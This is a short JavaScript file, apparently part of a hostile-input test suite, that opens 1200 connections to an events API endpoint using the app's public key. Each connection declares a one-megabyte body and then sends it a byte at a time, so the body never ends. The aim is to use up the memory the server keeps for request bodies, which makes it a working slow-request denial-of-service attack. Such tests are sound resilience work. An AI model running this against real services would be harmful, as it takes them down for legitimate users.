// API calls with the key of the app, which is in every page, and bodies that never
// end: what comes of them is all that the server has for bodies.
import { forever, port } from '../lib/hostile.mjs';
import { dial, push } from '../lib/raw.mjs';
import { pause } from '../lib/wait.mjs';

const part = 'x'.repeat(60 << 10);
const query = () => `auth_key=demo-key-01&auth_version=1.0&auth_timestamp=${Math.floor(Date.now() / 1000)}&auth_signature=0&body_md5=0`;

forever(1200, async (i) => {
  const socket = await dial(port, 20 + i % 100);
  await push(socket, `POST /apps/77/events?${query()} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n${part}`);
  while (!socket.destroyed) {
    await pause(500);
    await push(socket, 'x');
  }
});
